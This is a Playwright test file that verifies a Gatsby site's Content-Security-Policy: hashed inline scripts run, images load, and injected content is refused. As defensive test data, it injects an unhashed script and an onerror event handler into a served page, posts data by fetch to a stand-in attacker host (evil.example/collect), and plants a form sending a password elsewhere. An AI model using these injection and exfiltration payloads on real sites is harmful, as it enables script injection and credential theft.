// The Content-Security-Policy as the browser applies it: every page runs Gatsby's inline scripts and loads its
// images with nothing blocked; an inline script the build did not hash, and requests or posts anywhere but the
// site and its form, are refused. (Every browser test also fails on the console error a refusal logs.)
import type { Page } from "@playwright/test";
import { pagePaths, recordViolations, REFUSED, violations } from "./csp-helpers";
import { expect, expectConsole, test } from "./fixtures";
import { FORM_SERVICE } from "./hosts.mjs";

/** Another form at the site's form service: the policy allows only the site's own. */
const OTHER_FORM = `${FORM_SERVICE}/f/someone-else`;

interface GatsbyWindow {
  pagePath?: string;
  ___webpackCompilationHash?: string;
  ___chunkMapping?: string;
}

/** What Gatsby's inline scripts leave behind: proof that the policy let them run. */
const gatsbyGlobals = (page: Page) =>
  page.evaluate(() => {
    const w = window as GatsbyWindow;
    return {
      pagePath: w.pagePath,
      compilationHash: typeof w.___webpackCompilationHash,
      chunks: typeof w.___chunkMapping,
    };
  });

test.describe("under the Content-Security-Policy", () => {
  test.beforeEach(async ({ page }) => {
    await recordViolations(page);
  });

  // The 404 page is Gatsby's /404.html page, at its own address and at any unknown one.
  const runtimePath = (url: string) => (url === "/404" ? "/404.html" : url);
  for (const [url, pagePath] of [
    ...pagePaths.map((p) => [p, runtimePath(p)] as const),
    ["/no-such-page", "/404.html"] as const,
  ]) {
    test(`${url} runs Gatsby's inline scripts and loads every image, with nothing blocked`, async ({
      page,
      consoleProblems,
    }) => {
      const response = await page.goto(url);
      expect(response?.headers()["content-security-policy"]).toMatch(/script-src 'self' (?:https:\/\/\S+ )*'sha256-/);
      expect(await gatsbyGlobals(page)).toEqual({ pagePath, compilationHash: "string", chunks: "string" });
      // Lazy images load once scrolled to; none may be refused by img-src (a refused image is broken).
      await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
      await page.waitForLoadState("networkidle");
      const broken = await page.evaluate(() =>
        [...document.images].filter((img) => img.complete && img.naturalWidth === 0).map((img) => img.src),
      );
      expect(broken).toEqual([]);
      expect(await violations(page)).toEqual([]);
      if (url === "/no-such-page") expectConsole(consoleProblems, /404 \(Not Found\)/);
    });
  }

  test("an inline script the build did not hash does not run: one changed, one added, or an event handler", async ({
    page,
    consoleProblems,
  }) => {
    // The page as nginx serves it (status, headers, policy), with one statement added to the bundle loader, and
    // what raw HTML in the terms' Markdown would add: a script and an event handler.
    const added = '<script>window.__added=true</script><img src="data:," alt="" onerror="window.__handler=true">';
    await page.route("**/terms", async (route) => {
      const response = await route.fetch();
      const edited = (await response.text())
        .replace("window.pagePath=c.dataset.page;", "$&window.__changed=true;")
        .replace('<div class="prose mx-auto">', `$&${added}`);
      expect(edited.match(/__changed|__added|__handler/g), "the edits apply to the built page").toHaveLength(3);
      // The body is handed over decoded, so it must not be announced as gzip.
      const headers = response.headers();
      delete headers["content-encoding"];
      delete headers["content-length"];
      await route.fulfill({ response, headers, body: edited });
    });
    // Without its loader the page never hydrates: wait for the document, not for React.
    const response = await page.goto("/terms", { waitUntil: "domcontentloaded" });
    expect(response?.headers()["content-security-policy"]).toMatch(/script-src 'self' (?:https:\/\/\S+ )*'sha256-/);
    await expect
      .poll(async () => (await violations(page)).sort())
      .toEqual(["script-src-attr inline", "script-src-elem inline", "script-src-elem inline"]);
    expect(await page.evaluate(() => ["__changed", "__added", "__handler"].filter((name) => name in window))).toEqual(
      [],
    );
    // The changed loader was refused whole, not only the added statement (the page never set its path, and stays
    // as it is without JavaScript); Gatsby's untouched scripts ran.
    expect(await gatsbyGlobals(page)).toEqual({ pagePath: undefined, compilationHash: "string", chunks: "string" });
    expectConsole(consoleProblems, REFUSED);
  });

  test("requests and posts anywhere but the site and its form are refused, even another form of the service", async ({
    page,
    consoleProblems,
  }) => {
    await page.goto("/contact");
    const outcomes = await page.evaluate(
      (urls) =>
        Promise.all(
          urls.map((url) =>
            fetch(url, { method: "POST", body: "x" }).then(
              () => "sent",
              () => "refused",
            ),
          ),
        ),
      ["https://evil.example/collect", OTHER_FORM],
    );
    expect(outcomes).toEqual(["refused", "refused"]);
    // A form planted in the page, posting a password to someone else's form at the same service.
    await page.evaluate((action) => {
      const form = Object.assign(document.createElement("form"), { method: "post", action });
      form.append(Object.assign(document.createElement("input"), { name: "password", value: "secret" }));
      document.body.append(form);
      form.submit();
    }, OTHER_FORM);
    await expect
      .poll(() => violations(page))
      .toEqual(["connect-src https://evil.example/collect", `connect-src ${OTHER_FORM}`, `form-action ${OTHER_FORM}`]);
    expectConsole(consoleProblems, REFUSED);
  });
});
